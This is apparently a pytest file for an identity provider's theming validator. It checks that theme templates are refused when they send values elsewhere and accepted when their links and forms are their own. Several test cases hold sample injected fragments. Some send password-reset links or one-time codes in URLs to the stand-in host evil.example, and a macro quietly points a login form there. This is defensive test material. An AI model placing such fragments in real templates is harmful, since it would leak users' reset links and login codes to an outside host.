"""What a theme makes of pages and letters is tried, so that no value hides where it leads."""

import pytest

from idp.theming import ThemeRefused
from idp.theming.themes import Theme
from tests.theming.samples import ROOT, Spoiled

EVIL = "https://evil.example/"
BLOCK = '{{% extends "!{name}" %}}\n{{% block {block} %}}{{{{ super() }}}}{more}{{% endblock %}}'


def add(spoiled: Spoiled, name: str, block: str, more: str) -> Theme:
    """Load a theme that adds to a block of a page or letter."""
    folder = "" if name.startswith("mail/") else "templates/"
    spoiled.write(folder + name, BLOCK.format(name=name, block=block, more=more))
    return spoiled.load()


@pytest.mark.parametrize(
    ("name", "block", "more", "what"),
    [
        ("code.html", "main", "<a href=\"{{ 'java' ~ 'script:1' }}\">x</a>", "javascript:"),
        ("code.html", "main", f"<img src=\"{{{{ '{EVIL}' ~ view.masked }}}}\">", "another host"),
        ("layout.html", "style", ".hint{color:red}", "rules belong into style.css"),
        ("layout.html", "head", "<style>{{ look.first }}</style>", "another style than ours"),
        ("mail/reset.html.j2", "greet", f'<a href="{EVIL}?{{{{ facts.url }}}}">x</a>', "elsewhere"),
        (
            "mail/reset.html.j2",
            "body",
            f"<a href=\"{{{{ '{EVIL}?' ~ facts.url|urlencode }}}}\">x</a>",
            "a link elsewhere that holds the link",
        ),
        ("mail/code.html.j2", "body", f'<a href="{EVIL}{{{{ facts.code }}}}">x</a>', "the code"),
        ("mail/code.html.j2", "body", f"<p>{EVIL}?c={{{{ facts.code }}}}</p>", "holds the code"),
        ("mail/code.txt.j2", "body", f"{EVIL}?c={{{{ facts.code }}}}", "holds the code"),
        ("mail/reset.txt.j2", "body", f"{EVIL}?{{{{ facts.url }}}}", "holds the link"),
        ("code.html", "head", "<meta name=\"{{ 'refer' ~ 'rer' }}\">", "ours to say"),
        (
            "layout.html",
            "footer",
            '<form method="post" action="{{ frame.action }}"></form>',
            "“cancelled” this page sends no form: put it in {% if frame.action %}",
        ),
    ],
)
def test_what_leads_elsewhere_by_its_value_is_refused(spoiled, name, block, more, what):
    with pytest.raises(ThemeRefused) as refused:
        add(spoiled, name, block, more)
    assert refused.value.path.name == name.removeprefix("mail/")
    assert refused.value.line == 2
    assert what in refused.value.what


def test_a_form_that_a_macro_sends_elsewhere_is_refused(spoiled):
    parts = (ROOT / "base/templates/parts.html").read_text("utf-8")
    sly = "{% if not name %} action={{ 'https:' ~ '//evil.example' }}{% endif %}{% endmacro %}"
    body, macro, _ = parts.rpartition("{% endmacro %}")
    assert macro
    spoiled.write("templates/parts.html", body + sly)
    with pytest.raises(ThemeRefused) as refused:
        add(
            spoiled,
            "login.html",
            "main",
            '{% from "parts.html" import described %}'
            '<form {{ described("") }} action="{{ frame.action }}">',
        )
    assert refused.value.line == 2
    assert "in the state “login fresh” a form is sent elsewhere" in refused.value.what


@pytest.mark.parametrize(
    ("name", "block", "more"),
    [
        ("login.html", "style", ""),
        ("code.html", "head", '<meta name="robots" content="noindex">'),
        ("layout.html", "footer", '<p><a href="https://minister.example.gov.bd/">x</a></p>'),
        (
            "code.html",
            "main",
            '<form method="post" action="{{ frame.action }}">{{ hidden }}</form>',
        ),
        ("mail/reset.html.j2", "body", '<p style="margin:0"><a href="{{ facts.url }}">x</a></p>'),
        ("mail/reset.html.j2", "body", "<p>({{ facts.url }}).</p>"),
        ("mail/reset.txt.j2", "body", "({{ facts.url }})। <{{ facts.url }}>"),
        (
            "layout.html",
            "footer",
            '{% if frame.action %}<form action="{{ frame.action }}"></form>{% endif %}',
        ),
    ],
)
def test_links_and_forms_of_ones_own_are_a_themes_to_add(spoiled, name, block, more):
    add(spoiled, name, block, more)


@pytest.mark.parametrize("blanks", ["\n", " ", "\t"])
def test_a_style_with_a_blank_more_is_refused_with_what_to_write(spoiled, blanks):
    spoiled.write(
        "templates/login.html",
        '{% extends "!login.html" %}{% block style %}'
        f"{blanks}{{{{ look.first }}}}{blanks}{{% endblock %}}",
    )
    with pytest.raises(ThemeRefused, match="in one line"):
        spoiled.load()


def test_a_page_may_choose_the_longer_of_our_styles(spoiled):
    spoiled.write(
        "templates/login.html",
        '{% extends "!login.html" %}{% block style %}{{ look.style }}{% endblock %}',
    )
    spoiled.load()
